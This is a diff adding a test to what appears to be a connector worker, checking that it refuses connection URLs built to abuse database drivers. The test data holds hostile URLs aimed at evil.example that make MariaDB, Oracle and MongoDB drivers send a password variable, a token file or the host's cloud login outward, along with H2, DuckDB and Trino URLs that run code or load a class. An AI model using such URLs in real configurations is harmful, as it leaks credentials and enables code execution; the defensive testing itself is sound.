@@ -159,6 +159,26 @@ def test_a_config_in_the_topic_does_not_start(host: MemoryHost, started: list[st
     assert started == []
 
 
+DRIVERS = (
+    ("jdbc:mariadb://evil.example/d?credentialType=ENV&userKey=DATABASE_PASSWORD", "variables of the process"),
+    ("jdbc:oracle:thin:@tcps://evil.example:1/d?TOKEN_AUTH=OAUTH&TOKEN_LOCATION=/var/run/token", "the worker's files"),
+    ("mongodb://evil.example/?authMechanismProperties=ENVIRONMENT:k8s", "the machine's own login"),
+    ("jdbc:h2:mem:x", "each query may run code"),
+    ("jdbc:duckdb:", "each query may run code"),
+    ("jdbc:trino://h/d?dnsResolver=com.acme.evil.Resolver", "load a class"),
+)
+
+
+@pytest.mark.parametrize(("url", "reason"), DRIVERS, ids=[url.partition("?")[0] for url, _ in DRIVERS])
+def test_no_driver_gives_away_the_machine(host: MemoryHost, started: list[str], url: str, reason: str) -> None:
+    """Whoever may create connectors has a database's driver send a variable, a file or a login, or run code: never started."""
+    unit: Unit = host.unit({"name": "c", "connector.class": "Watched", "topic": "t", "connection.url": url}, task=None)
+    until(lambda: "FAILED" in host.states)
+    end(unit)
+    assert reason in (host.statuses[-1][1] or "")
+    assert started == []
+
+
 def test_a_config_that_the_worker_allows_starts(host: MemoryHost, started: list[str]) -> None:
     """Control: what the worker's file names starts."""
     unit: Unit = host.unit({"name": "c", "connector.class": "Watched", "x.producer.ssl.providers": "x"}, task=None)
